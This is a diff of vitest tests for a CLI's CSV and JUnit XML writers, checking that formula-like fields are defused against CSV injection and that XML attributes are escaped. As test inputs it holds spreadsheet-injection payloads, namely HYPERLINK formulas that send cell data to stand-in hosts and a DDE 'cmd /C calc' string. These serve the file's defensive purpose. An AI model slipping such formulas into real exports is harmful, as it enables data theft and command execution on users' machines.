@@ -1,6 +1,8 @@
 import { describe, expect, it } from 'vitest';
 import { csvField, csvRow } from '../../engine/cli/csv.js';
-import { escapeXml, junitXml } from '../../engine/cli/junit.js';
+import { escapeXml, escapeXmlAttr, junitXml } from '../../engine/cli/junit.js';
+import { patientsCsv, timecourseCsv, trajectoriesCsv } from '../../engine/cli/result-csv.js';
+import { fakeResult } from './fake-engine.js';
 import { populationTooLarge, formatBytes } from '../../engine/cli/options.js';
 import { ProgressBar, formatSeconds } from '../../engine/cli/progress.js';
 import { styleFor } from '../../engine/cli/io.js';
@@ -18,11 +20,44 @@ describe('CSV quoting (RFC 4180)', () => {
     expect(csvField(true)).toBe('1');
     expect(csvRow(['a', 1, undefined])).toBe('a,1,\r\n');
   });
+
+  it('defuses text a spreadsheet would run as a formula (OWASP CSV injection); numbers stay numbers', () => {
+    expect(csvField('=HYPERLINK("http://x.example/?"&A1,"click")')).toBe(`"'=HYPERLINK(""http://x.example/?""&A1,""click"")"`);
+    expect(csvField('+1+cmd|\' /C calc\'!A0')).toBe(`"'+1+cmd|' /C calc'!A0"`);
+    expect(csvField('-2+3')).toBe(`"'-2+3"`);
+    expect(csvField('@SUM(A1:A9)')).toBe(`"'@SUM(A1:A9)"`);
+    expect(csvField('\t=1')).toBe(`"'\t=1"`);
+    expect(csvField('\r=1')).toBe(`"'\r=1"`);
+    expect(csvField(-2.5)).toBe('-2.5');
+    expect(csvField('75 mg = 1 vial')).toBe('75 mg = 1 vial');
+  });
+
+  it('every CSV the CLI writes defuses formula-like regimen, output and column names', () => {
+    const result = fakeResult('/x/s1.yaml', { nPatients: 2, trajectories: 1 });
+    const evil = '=HYPERLINK("http://evil.example","x")';
+    result.regimens[0].name = evil;
+    result.regimens[0].raw.name = evil;
+    result.regimens[0].raw.quantiles[0].output = '@Cp';
+    result.regimens[0].raw.trajectories!.outputs = ['@Cp'];
+    result.patients = { '+WT': result.patients.WT };
+    for (const text of [[...patientsCsv(result)], [...timecourseCsv(result)], [...trajectoriesCsv(result)]].map((rows) => rows.join(''))) {
+      // No field (at the start of a line or after a separator) begins with a formula character.
+      expect(text).not.toMatch(/(^|,|\r\n)"?[=+@\-]/);
+      expect(text).toMatch(/"'[=@+]/);
+    }
+  });
 });
 
 describe('JUnit XML', () => {
   it('escapes markup and strips characters XML cannot hold', () => {
     expect(escapeXml(`<a b="c" d='e'> & \u001b[31m`)).toBe('&lt;a b=&quot;c&quot; d=&apos;e&apos;&gt; &amp; [31m');
+  });
+
+  it('keeps line breaks and tabs in attribute values as character references (a parser would turn them into spaces)', () => {
+    expect(escapeXmlAttr('a\nb\tc\rd')).toBe('a&#10;b&#9;c&#13;d');
+    const xml = junitXml('s', [{ name: 'x', classname: 'c', timeSeconds: 0, error: { message: 'two\nlines', body: 'two\nlines' } }], 't');
+    assertWellFormedXml(xml);
+    expect(xml).toContain('message="two&#10;lines">two\nlines</error>');
   });
 
   it('is well-formed with failures, errors and hostile names', () => {
